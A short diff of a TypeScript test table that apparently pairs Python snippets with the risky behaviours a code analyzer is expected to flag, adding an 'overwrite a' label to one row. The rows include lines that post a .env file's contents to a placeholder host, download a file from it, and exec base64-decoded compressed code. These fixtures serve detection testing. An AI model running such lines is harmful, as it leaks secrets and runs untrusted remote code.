@@ -146,7 +146,7 @@ const rows: readonly Row[] = [
     "send",
     "spawn /bin/sh -i",
   ],
-  ["import urllib.request as u; u.urlretrieve('http://x/a','a')", "fetch"],
+  ["import urllib.request as u; u.urlretrieve('http://x/a','a')", "fetch", "overwrite a"],
   ["import requests; requests.post('http://x', data=open('.env').read())", "read .env", "send"],
   ["import zlib,base64; exec(zlib.decompress(base64.b64decode('eA==')))", "decoded"],
   ['exec("print(1)")', "dynamic"],
